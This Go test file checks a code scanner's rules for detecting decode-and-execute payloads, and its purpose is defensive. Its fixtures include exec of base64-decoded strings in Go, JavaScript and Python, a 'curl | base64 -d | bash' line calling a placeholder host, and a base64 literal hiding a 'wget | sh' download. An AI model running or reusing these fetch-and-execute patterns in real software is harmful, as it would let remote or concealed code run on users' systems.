package payload

import (
	"glassbox.dev/scan/rules/internal/ruletest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"glassbox.dev"
	"glassbox.dev/scan"
)

// file builds a scan.File as the engine would, with Lang from the name.
func file(path, content string) *scan.File { return ruletest.File(path, []byte(content)) }

// TestSpecifics pins severities and places for the cases that matter.
func TestSpecifics(t *testing.T) {
	tests := []struct {
		name, path, src string
		rule            string
		sev             glassbox.Severity
		line            int
		snippet         string
	}{
		{"Go: decoded variable reaches exec.Command in the same function", "a.go",
			"package a\n\nimport (\n\t\"encoding/base64\"\n\t\"os/exec\"\n)\n\nfunc f(s string) {\n\tb, _ := base64.StdEncoding.DecodeString(s)\n\texec.Command(\"sh\", \"-c\", string(b)).Run()\n}\n",
			"GB0301", glassbox.SeverityCritical, 10, `exec.Command("sh", "-c", string(b))`},
		{"JS: decipher output compiled as a module", "x.js",
			"var d = require('crypto').createDecipher('aes256', process.env.K);\nvar p = d.update(blob, 'hex', 'utf8');\np += d.final('utf8');\nm._compile(p, '');\n",
			"GB0301", glassbox.SeverityCritical, 4, "_compile(p, '')"},
		{"Python: exec of b64decode in one statement", "s.py",
			"import base64\nexec(base64.b64decode(B))\n",
			"GB0301", glassbox.SeverityCritical, 2, "exec(base64.b64decode(B))"},
		{"shell: curl | base64 -d | bash", "i.sh",
			"curl -s https://h.invalid/x | base64 -d | bash\n",
			"GB0301", glassbox.SeverityCritical, 1, "base64 -d | bash"},
		{"base64 literal hiding wget | sh is high", "c.go",
			"package c\n\nconst k = \"d2dldCAtcSAtTy0gaHR0cDovL2guaW52YWxpZC94IHwgc2g=\"\n",
			"GB0302", glassbox.SeverityHigh, 3, `d2dldCAtcSAtTy0gaHR0cDovL2guaW52YWxpZC94IHwgc2g=`},
		{"in test code it is low and says so", "pkg/testdata/x.py",
			"import base64\nexec(base64.b64decode(B))\n",
			"GB0301", glassbox.SeverityLow, 2, "exec(base64.b64decode(B))"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fs := New().Analyze(file(tt.path, tt.src))
			for _, f := range fs {
				if f.RuleID != tt.rule {
					continue
				}
				if f.Severity != tt.sev || f.Region.StartLine != tt.line || f.Snippet != tt.snippet {
					t.Errorf("got %s %s line %d %q, want %s line %d %q", f.RuleID, f.Severity, f.Region.StartLine, f.Snippet, tt.sev, tt.line, tt.snippet)
				}
				if tt.sev == glassbox.SeverityLow && !strings.Contains(f.Message, "in test code") {
					t.Errorf("message %q does not say test code", f.Message)
				}
				return
			}
			t.Errorf("no %s finding in %v", tt.rule, fs)
		})
	}
}

// TestRules checks the rule table is complete and in the family's range.
func TestRules(t *testing.T) {
	for _, r := range New().Rules() {
		if !strings.HasPrefix(r.ID, "GB03") || r.Name == "" || r.Family != Family || r.Summary == "" || r.Explanation == "" || r.Severity.Rank() < 0 {
			t.Errorf("bad rule %+v", r)
		}
	}
}

// FuzzAnalyze checks the analyser never panics, whatever the language.
func FuzzAnalyze(f *testing.F) {
	paths, _ := filepath.Glob("testdata/*/*")
	for _, p := range paths {
		b, _ := os.ReadFile(p)
		f.Add(filepath.Base(p), b)
	}
	f.Fuzz(func(t *testing.T, name string, content []byte) {
		for _, lang := range []string{"go", "python", "javascript", "php", "shell", ""} {
			for _, x := range New().Analyze(&scan.File{Path: name, Content: content, Lang: lang}) {
				if x.RuleID == "" || x.Region.StartLine < 1 {
					t.Fatalf("bad finding %+v", x)
				}
			}
		}
	})
}

// TestCorpus is the specification by example (see ruletest.Corpus).
func TestCorpus(t *testing.T) { ruletest.Corpus(t, New(), ruletest.AsSource) }

// TestConcurrent runs the analyser from many goroutines (run with -race).
func TestConcurrent(t *testing.T) { ruletest.Concurrent(t, New(), ruletest.AsSource) }
